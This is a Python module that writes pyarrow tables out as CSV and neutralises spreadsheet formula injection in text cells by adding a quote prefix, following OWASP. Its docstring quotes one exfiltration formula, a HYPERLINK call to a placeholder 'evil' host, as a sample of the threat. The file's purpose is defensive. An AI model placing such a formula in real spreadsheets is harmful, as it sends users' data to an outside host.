"""CSV files meant to be opened in a spreadsheet, safe against formula injection.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (a tab or a
carriage return in front of one does not stop it), so a rejected row holding
``=HYPERLINK("http://evil/?"&A1)`` would run on the analyst's machine. OWASP's rule: prefix such a
cell with a single quote, which the spreadsheet shows as text. Only exports get this treatment:
the lake keeps values exactly as they landed.
"""
from __future__ import annotations

import io

import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.csv as pacsv

FORMULA_START = r"^([=+\-@\t\r])"


def neutralise_formulas(table: pa.Table) -> pa.Table:
    """The table with every text cell that a spreadsheet would run prefixed with ``'``.

    Only text columns change. A numeric column is written as a number (``-12.5``), which a
    spreadsheet reads as that number and cannot hold a formula, so it stays a number. A text
    cell is prefixed even when it reads like a number (``-12.5`` from a rejected text field):
    ``-2+3`` shows that a leading minus can start a formula.
    """
    columns = []
    for column in table.columns:
        if pa.types.is_dictionary(column.type):
            column = column.cast(column.type.value_type)
        if pa.types.is_string(column.type) or pa.types.is_large_string(column.type):
            column = pc.replace_substring_regex(column, pattern=FORMULA_START, replacement=r"'\1", max_replacements=1)
        columns.append(column)
    return pa.table(columns, names=table.column_names)


def spreadsheet_csv(table: pa.Table) -> bytes:
    """The table as CSV bytes (header first), formula cells neutralised."""
    buffer = io.BytesIO()
    pacsv.write_csv(neutralise_formulas(table), buffer)
    return buffer.getvalue()
